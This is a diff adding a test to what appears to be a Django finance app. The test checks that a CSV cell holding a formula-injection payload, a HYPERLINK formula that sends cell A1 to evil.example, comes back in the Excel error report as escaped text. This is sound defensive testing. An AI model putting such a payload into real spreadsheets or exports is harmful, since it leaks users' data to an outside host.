@@ -270,6 +270,17 @@ def test_error_report_download(fin_client, three):
     assert rows[1] == (3, "Balance", "“lots” is not an amount", "lots")     # the cell as the file has it
 
 
+def test_error_report_writes_a_formula_from_the_file_as_text(fin_client, three):
+    """A cell the file had as `=HYPERLINK(…)` comes back as text, not as a live formula."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    csv = f"Reg No,Balance\nSCE/CS/0001/2022,{evil.replace(chr(34), chr(34) * 2).join(chr(34) * 2)}\n"
+    fin_client.post(f"{BI}/import/", {"file": SimpleUploadedFile("balances.csv", csv.encode())})
+    bi = BalanceImport.objects.get()
+    response = fin_client.get(f"{BI}/{bi.pk}/error-report/")
+    cell = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))[0][3]
+    assert cell.data_type == "s" and cell.value == "'" + evil
+
+
 def test_error_report_of_an_unknown_import_is_404(fin_client):
     assert fin_client.get(f"{BI}/999999/error-report/").status_code == 404
     assert fin_client.get(f"{BI}/999999/preview/").status_code == 404
